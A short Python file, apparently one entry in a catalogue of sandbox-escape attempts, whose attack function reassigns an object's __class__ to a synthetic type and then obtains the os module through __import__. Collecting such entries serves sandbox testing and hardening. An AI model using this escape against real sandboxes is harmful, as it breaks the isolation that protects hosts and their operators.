"""Class: attribute walk. Source: own find. Escape: an object changes its class to a real one."""

import functools


class A:
    pass


def attack(model, tokenizer, address):
    a = A()
    setattr(a, "__class__", type("B", (), {"__array_interface__": {}}))
    return type(type(a)) and __import__("os")
